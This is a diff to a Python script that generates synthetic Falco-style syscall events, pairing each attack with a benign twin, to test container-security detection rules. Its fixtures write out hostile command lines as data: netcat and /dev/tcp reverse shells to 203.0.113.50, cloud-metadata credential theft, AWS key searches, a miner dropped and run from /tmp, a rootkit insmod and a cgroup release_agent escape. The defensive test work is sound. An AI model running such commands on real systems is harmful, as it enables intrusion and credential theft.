@@ -1,4 +1,11 @@
-"""Writes tests/data/syscall/*.json: realistic sensor documents for lanner's syscall rules."""
+"""Writes the sensor documents of tests/data/syscall (run: python make_docs.py [OUT_DIR]).
+
+Each behaviour gets an attack (NAME.json, sometimes NAME.VARIANT.json) and at least one
+benign twin (NAME.benign_WHY.json) with the same event type; developer_workload.jsonl is
+a batch of ordinary build, test, git and apt activity. Documents are exit events keyed
+by Falco field names, shaped like the node sensor's (rendered flags in evt.arg, errno
+names in evt.res, ancestor chains with the process first).
+"""
 
 from __future__ import annotations
 
@@ -8,7 +15,7 @@ import sys
 from pathlib import Path
 from typing import Any
 
-OUT = Path(sys.argv[1])
+OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent
 T0 = 1795849200_000000000  # 2026-11-28T07:00:00Z
 CID_WEB = "3f9c2a7d81be"
 CID_API = "a41be09c7d23"
@@ -17,26 +24,29 @@ CID_JOB = "c7d1e2f3a4b5"
 _seq = [0]
 
 
-def ev(
-    etype: str,
-    *,
-    comm: str,
-    argv: list[str],
-    exepath: str,
-    chain: list[tuple[str, int, str]],
-    res: str = "SUCCESS",
-    rawres: int = 0,
-    args: dict[str, Any] | None = None,
-    user: tuple[str, int] = ("root", 0),
-    loginuid: int = -1,
-    container: str = "host",
-    image: str | None = None,
-    cwd: str = "/",
-    tty: int = 0,
-    age_s: float = 120.0,
-    **extra: Any,
-) -> dict[str, Any]:
-    """One exit event. chain: the ancestors (name, pid, cmdline), parent first."""
+def ev(etype: str, **kw: Any) -> dict[str, Any]:
+    """One exit event.
+
+    Keywords: comm, argv, exepath, chain (the ancestors as (name, pid, cmdline), parent
+    first), res, rawres, args (evt.arg), user (name, uid), loginuid, container, image,
+    cwd, tty, age_s (seconds since the process started); any other keyword is a field
+    of the document, and a dict under ``fields`` holds more of them.
+    """
+    comm: str = kw.pop("comm")
+    argv: list[str] = kw.pop("argv")
+    exepath: str = kw.pop("exepath")
+    chain: list[tuple[str, int, str]] = kw.pop("chain")
+    res: str = kw.pop("res", "SUCCESS")
+    rawres: int = kw.pop("rawres", 0)
+    args: dict[str, Any] = kw.pop("args", None) or {}
+    user: tuple[str, int] = kw.pop("user", ("root", 0))
+    loginuid: int = kw.pop("loginuid", -1)
+    container: str = kw.pop("container", "host")
+    image: str | None = kw.pop("image", None)
+    cwd: str = kw.pop("cwd", "/")
+    tty: int = kw.pop("tty", 0)
+    age_s: float = kw.pop("age_s", 120.0)
+    extra: dict[str, Any] = {**kw.pop("fields", {}), **kw}
     _seq[0] += 1
     now = T0 + _seq[0] * 1_000_003_117
     pid = 4000 + _seq[0] * 7
@@ -50,7 +60,7 @@ def ev(
         "evt.dir": "<",
         "evt.res": res,
         "evt.rawres": rawres,
-        "evt.arg": dict(args or {}),
+        "evt.arg": dict(args),
         "proc.name": comm,
         "proc.exe": argv[0],
         "proc.exepath": exepath,
@@ -108,8 +118,7 @@ def opened(path: str, flags: str, fd: int = 3, raw: str | None = None, **kw: Any
 def connected(
     sip: str, sport: int, cport: int = 48122, cip: str = "10.0.3.17", v6: bool = False, **kw: Any
 ) -> dict[str, Any]:
-    sep = "->"
-    name = f"{cip}:{cport}{sep}{sip}:{sport}" if not v6 else f"{cip}:{cport}{sep}{sip}:{sport}"
+    name = f"{cip}:{cport}->{sip}:{sport}"
     return dict(
         rawres=0,
         args={"fd": 3, "addr": f"{sip}:{sport}", "tuple": name},
@@ -141,7 +150,7 @@ SSH_LOGIN = [
     ("sshd", 812, "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
     ("systemd", 1, "/sbin/init"),
 ]
-ROOT_SSH = [("bash", 2151, "-bash"), ("sudo", 2150, "sudo -i")] + SSH_LOGIN
+ROOT_SSH = [("bash", 2151, "-bash"), ("sudo", 2150, "sudo -i"), *SSH_LOGIN]
 DEV = [("bash", 3301, "bash"), ("tmux: server", 3300, "tmux"), ("systemd", 1, "/sbin/init")]
 CONTAINER_INIT = [("containerd-shim", 9310, "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io")]
 WEB_USER = ("www-data", 33)
@@ -166,7 +175,7 @@ docs["read_shadow.benign_unix_chkpwd.json"] = ev(
     comm="unix_chkpwd",
     argv=["/sbin/unix_chkpwd", "alice", "nullok"],
     exepath="/usr/sbin/unix_chkpwd",
-    chain=[("sudo", 2150, "sudo -i")] + SSH_LOGIN[:],
+    chain=[("sudo", 2150, "sudo -i"), *SSH_LOGIN[:]],
     user=DEVU,
     loginuid=1001,
     **opened("/etc/shadow", "O_RDONLY|O_CLOEXEC"),
@@ -279,7 +288,7 @@ docs["search_aws_credentials.json"] = ev(
     comm="grep",
     argv=["grep", "-ri", "aws_secret_access_key", "/home", "/root", "/var/www"],
     exepath="/usr/bin/grep",
-    chain=[("sh", 6201, "sh -c ...")] + CONTAINER_INIT,
+    chain=[("sh", 6201, "sh -c ..."), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     user=WEB_USER,
@@ -311,7 +320,7 @@ docs["symlink_shadow.json"] = ev(
     comm="ln",
     argv=["ln", "-s", "/etc/shadow", "/var/www/html/static/s.txt"],
     exepath="/usr/bin/ln",
-    chain=[("sh", 6301, "sh -c ln -s ...")] + CONTAINER_INIT,
+    chain=[("sh", 6301, "sh -c ln -s ..."), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     args={
@@ -376,7 +385,7 @@ docs["cloud_metadata.json"] = ev(
     comm="curl",
     argv=["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
     exepath="/usr/bin/curl",
-    chain=[("sh", 6401, "sh -c curl ...")] + CONTAINER_INIT,
+    chain=[("sh", 6401, "sh -c curl ..."), *CONTAINER_INIT],
     container=CID_API,
     image="registry.example.net/shop/orders-api",
     user=("app", 10001),
@@ -500,7 +509,7 @@ docs["netcat_exec.json"] = ev(
     comm="nc",
     argv=["nc", "-e", "/bin/sh", "203.0.113.50", "4444"],
     exepath="/usr/bin/nc.traditional",
-    chain=[("sh", 6501, "sh -c nc ...")] + CONTAINER_INIT,
+    chain=[("sh", 6501, "sh -c nc ..."), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     user=WEB_USER,
@@ -511,7 +520,7 @@ docs["netcat_exec.benign_port_check.json"] = ev(
     comm="nc",
     argv=["nc", "-zv", "orders-db", "5432"],
     exepath="/usr/bin/nc.openbsd",
-    chain=[("sh", 6502, "sh -c nc -zv orders-db 5432")] + CONTAINER_INIT,
+    chain=[("sh", 6502, "sh -c nc -zv orders-db 5432"), *CONTAINER_INIT],
     container=CID_API,
     image="registry.example.net/shop/orders-api",
     user=("app", 10001),
@@ -545,7 +554,7 @@ docs["dev_tcp_reverse_shell.benign_readiness_probe.json"] = ev(
     comm="bash",
     argv=["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8080"],
     exepath="/usr/bin/bash",
-    chain=[("runc", 9402, "runc --root /run/containerd/runc/k8s.io exec")] + CONTAINER_INIT,
+    chain=[("runc", 9402, "runc --root /run/containerd/runc/k8s.io exec"), *CONTAINER_INIT],
     container=CID_API,
     image="registry.example.net/shop/orders-api",
     user=("app", 10001),
@@ -557,7 +566,7 @@ docs["stdio_to_socket.json"] = ev(
     comm="bash",
     argv=["bash", "-i"],
     exepath="/usr/bin/bash",
-    chain=[("sh", 6701, "sh -c bash -i >& /dev/tcp/203.0.113.50/443 0>&1")] + CONTAINER_INIT,
+    chain=[("sh", 6701, "sh -c bash -i >& /dev/tcp/203.0.113.50/443 0>&1"), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     user=WEB_USER,
@@ -596,7 +605,7 @@ docs["exec_dev_shm.json"] = ev(
     comm="kworker",
     argv=["/dev/shm/.k/kworker", "-o", "pool.example.org:3333"],
     exepath="/dev/shm/.k/kworker",
-    chain=[("sh", 6801, "sh -c ...")] + CONTAINER_INIT,
+    chain=[("sh", 6801, "sh -c ..."), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     user=WEB_USER,
@@ -618,8 +627,11 @@ docs["memfd_exec.json"] = ev(
     comm="3",
     argv=["[kworker/0:2]"],
     exepath="memfd: (deleted)",
-    chain=[("python3", 6901, "python3 -c import os;..."), ("sh", 6900, "sh -c python3 -c ...")]
-    + CONTAINER_INIT,
+    chain=[
+        ("python3", 6901, "python3 -c import os;..."),
+        ("sh", 6900, "sh -c python3 -c ..."),
+        *CONTAINER_INIT,
+    ],
     container=CID_API,
     image="registry.example.net/shop/orders-api",
     user=("app", 10001),
@@ -645,7 +657,7 @@ docs["drop_and_execute.json"] = ev(
     comm="xmrig",
     argv=["/tmp/xmrig", "--donate-level", "0"],
     exepath="/tmp/xmrig",
-    chain=[("sh", 7001, "sh -c curl -so /tmp/xmrig ... && /tmp/xmrig")] + CONTAINER_INIT,
+    chain=[("sh", 7001, "sh -c curl -so /tmp/xmrig ... && /tmp/xmrig"), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     user=WEB_USER,
@@ -658,7 +670,7 @@ docs["drop_and_execute.benign_image_binary.json"] = ev(
     comm="python3",
     argv=["python3", "/srv/app/manage.py", "migrate"],
     exepath="/usr/bin/python3.11",
-    chain=[("sh", 7002, "sh -c python3 /srv/app/manage.py migrate")] + CONTAINER_INIT,
+    chain=[("sh", 7002, "sh -c python3 /srv/app/manage.py migrate"), *CONTAINER_INIT],
     container=CID_API,
     image="registry.example.net/shop/orders-api",
     user=("app", 10001),
@@ -699,7 +711,7 @@ docs["k8s_api_from_container.json"] = ev(
         "https://kubernetes.default.svc/api/v1/secrets",
     ],
     exepath="/usr/bin/curl",
-    chain=[("sh", 7201, "sh -c curl ...")] + CONTAINER_INIT,
+    chain=[("sh", 7201, "sh -c curl ..."), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     user=WEB_USER,
@@ -818,7 +830,7 @@ docs["ptrace_traceme.json"] = ev(
     comm="kdevtmpfsi",
     argv=["/tmp/kdevtmpfsi"],
     exepath="/tmp/kdevtmpfsi",
-    chain=[("sh", 7301, "sh -c /tmp/kdevtmpfsi")] + CONTAINER_INIT,
+    chain=[("sh", 7301, "sh -c /tmp/kdevtmpfsi"), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     user=WEB_USER,
@@ -829,7 +841,7 @@ docs["ptrace_traceme.benign_gdb_child.json"] = ev(
     comm="gdb",
     argv=["gdb", "./shop-tests"],
     exepath="/usr/bin/gdb",
-    chain=[("gdb", 3390, "gdb ./shop-tests")] + DEV,
+    chain=[("gdb", 3390, "gdb ./shop-tests"), *DEV],
     user=DEVU,
     cwd="/home/dev/src/shop",
     args={"request": "PTRACE_TRACEME", "pid": 0, "addr": "0", "data": "0"},
@@ -887,8 +899,8 @@ docs["setuid_bit.benign_dpkg.json"] = ev(
     chain=[
         ("apt-get", 8100, "apt-get install -y sudo"),
         ("sudo", 8099, "sudo apt-get install -y sudo"),
-    ]
-    + DEV,
+        *DEV,
+    ],
     user=("root", 0),
     loginuid=1000,
     args={
@@ -944,7 +956,7 @@ docs["kmod_container.json"] = ev(
     comm="insmod",
     argv=["insmod", "/tmp/diamorphine.ko"],
     exepath="/usr/bin/kmod",
-    chain=[("sh", 7401, "sh -c insmod /tmp/diamorphine.ko")] + CONTAINER_INIT,
+    chain=[("sh", 7401, "sh -c insmod /tmp/diamorphine.ko"), *CONTAINER_INIT],
     container=CID_JOB,
     image="docker.io/library/alpine",
     args={"fd": 3, "uargs": "", "flags": 0},
@@ -981,7 +993,7 @@ docs["packet_socket_container.json"] = ev(
     comm="tcpdump",
     argv=["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"],
     exepath="/usr/bin/tcpdump",
-    chain=[("sh", 7501, "sh -c tcpdump ...")] + CONTAINER_INIT,
+    chain=[("sh", 7501, "sh -c tcpdump ..."), *CONTAINER_INIT],
     container=CID_WEB,
     image="registry.example.net/shop/web",
     rawres=3,
@@ -1004,7 +1016,7 @@ docs["debugfs_privileged.json"] = ev(
     comm="debugfs",
     argv=["debugfs", "-w", "/dev/nvme0n1p1"],
     exepath="/usr/sbin/debugfs",
-    chain=[("sh", 7601, "sh")] + CONTAINER_INIT,
+    chain=[("sh", 7601, "sh"), *CONTAINER_INIT],
     container=CID_JOB,
     image="docker.io/library/ubuntu",
     tty=34822,
@@ -1016,7 +1028,7 @@ docs["debugfs_privileged.benign_unprivileged.json"] = ev(
     comm="debugfs",
     argv=["debugfs", "-R", "stats", "/data/disk.img"],
     exepath="/usr/sbin/debugfs",
-    chain=[("sh", 7602, "sh -c debugfs ...")] + CONTAINER_INIT,
+    chain=[("sh", 7602, "sh -c debugfs ..."), *CONTAINER_INIT],
     container=CID_JOB,
     image="docker.io/library/ubuntu",
     args={"filename": "/sbin/debugfs"},
@@ -1026,7 +1038,7 @@ docs["release_agent.json"] = ev(
     comm="sh",
     argv=["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"],
     exepath="/usr/bin/dash",
-    chain=[("sh", 7701, "sh")] + CONTAINER_INIT,
+    chain=[("sh", 7701, "sh"), *CONTAINER_INIT],
     container=CID_JOB,
     image="docker.io/library/ubuntu",
     **opened("/tmp/cgrp/release_agent", "O_TRUNC|O_CREAT|O_WRONLY", fd=3),
@@ -1043,7 +1055,6 @@ docs["release_agent.benign_host_systemd.json"] = ev(
 
 for name, doc in docs.items():
     (OUT / name).write_text(json.dumps(doc, indent=2) + "\n")
-print(len(docs))
 
 # --- a developer's ordinary day: none of this may alert -------------------------------------------
 SRC = "/home/dev/src/shop"
@@ -1053,14 +1064,15 @@ MAKE = [
     ("tmux: server", 3300, "tmux"),
     ("systemd", 1, "/sbin/init"),
 ]
-GCC = [("gcc", 3510, "gcc -O2 -c src/cart.c -o build/cart.o")] + MAKE
-PYTEST = [("python3", 3600, "python3 -m pytest -q")] + DEV
+GCC = [("gcc", 3510, "gcc -O2 -c src/cart.c -o build/cart.o"), *MAKE]
+PYTEST = [("python3", 3600, "python3 -m pytest -q"), *DEV]
 APT = [
     ("apt-get", 3700, "apt-get install -y libssl-dev sudo"),
     ("sudo", 3699, "sudo apt-get install -y libssl-dev sudo"),
-] + DEV
-DPKG = [("dpkg", 3720, "/usr/bin/dpkg --status-fd 35 --configure --pending")] + APT
-kw = dict(user=DEVU, cwd=SRC)
+    *DEV,
+]
+DPKG = [("dpkg", 3720, "/usr/bin/dpkg --status-fd 35 --configure --pending"), *APT]
+kw: dict[str, Any] = dict(user=DEVU, cwd=SRC)
 work = [
     ev(
         "execve",
@@ -1104,7 +1116,7 @@ work = [
         comm="ld",
         argv=["/usr/bin/ld", "-o", "build/shop", "build/cart.o"],
         exepath="/usr/bin/x86_64-linux-gnu-ld.bfd",
-        chain=[("collect2", 3530, "collect2")] + GCC,
+        chain=[("collect2", 3530, "collect2"), *GCC],
         **opened(f"{SRC}/build/shop", "O_TRUNC|O_CREAT|O_RDWR", fd=3),
         **kw,
     ),
@@ -1113,7 +1125,7 @@ work = [
         comm="ld",
         argv=["/usr/bin/ld", "-o", "build/shop", "build/cart.o"],
         exepath="/usr/bin/x86_64-linux-gnu-ld.bfd",
-        chain=[("collect2", 3530, "collect2")] + GCC,
+        chain=[("collect2", 3530, "collect2"), *GCC],
         args={
             "dirfd": "AT_FDCWD",
             "filename": "build/shop",
@@ -1137,7 +1149,7 @@ work = [
         comm="ssh",
         argv=["ssh", "git@github.com", "git-upload-pack 'acme/shop.git'"],
         exepath="/usr/bin/ssh",
-        chain=[("git", 3410, "git pull --rebase")] + DEV,
+        chain=[("git", 3410, "git pull --rebase"), *DEV],
         **connected("140.82.112.3", 22, cip="192.168.1.40", cport=51002),
         **kw,
     ),
@@ -1146,7 +1158,7 @@ work = [
         comm="git-remote-http",
         argv=["git-remote-https", "origin", "https://github.com/acme/lib.git"],
         exepath="/usr/lib/git-core/git-remote-http",
-        chain=[("git", 3411, "git fetch upstream")] + DEV,
+        chain=[("git", 3411, "git fetch upstream"), *DEV],
         **connected("140.82.112.4", 443, cip="192.168.1.40", cport=51010),
         **kw,
     ),
@@ -1309,7 +1321,7 @@ work = [
         comm="shadowconfig",
         argv=["/sbin/shadowconfig", "on"],
         exepath="/usr/sbin/shadowconfig",
-        chain=[("sh", 3730, "/bin/sh /var/lib/dpkg/info/passwd.postinst configure")] + DPKG,
+        chain=[("sh", 3730, "/bin/sh /var/lib/dpkg/info/passwd.postinst configure"), *DPKG],
         **opened("/etc/shadow", "O_RDONLY", fd=3),
     ),
     ev(
@@ -1372,4 +1384,3 @@ work = [
 with open(OUT / "developer_workload.jsonl", "w") as fh:
     for doc in work:
         fh.write(json.dumps(doc) + "\n")
-print(len(work))
